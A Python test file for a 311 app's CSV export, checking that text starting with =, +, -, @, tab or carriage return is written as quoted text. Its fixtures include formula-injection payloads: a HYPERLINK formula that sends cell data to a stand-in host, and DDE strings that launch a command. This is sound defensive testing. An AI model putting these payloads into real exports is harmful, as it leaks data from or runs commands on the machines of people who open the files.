"""The one CSV writer: cells a spreadsheet would run as formulas are written as text."""

import csv
import io
import re
from pathlib import Path

import pytest

import civic311
from civic311.lib.csv_stream import csv_lines


def read(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("12 Main St", "12 Main St"),
        ("Main St = Route 2", "Main St = Route 2"),  # only the first character starts a formula
        ("", ""),
    ],
)
def test_text_that_would_start_a_formula_is_quoted(typed, written):
    assert read(csv_lines(["address"], [[typed]]))[1] == [written]


def test_numbers_stay_numbers():
    assert read(csv_lines(["lat", "long", "seconds", "none"], [[42.37, -71.1, -5, None]]))[1] == [
        "42.37", "-71.1", "-5", ""
    ]  # fmt: skip


def test_every_csv_export_uses_the_one_writer():
    """A second writer would not neutralise formulas; the importer only reads."""
    root = Path(civic311.__file__).parent
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "tests" not in path.parts and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["lib/csv_stream.py"]
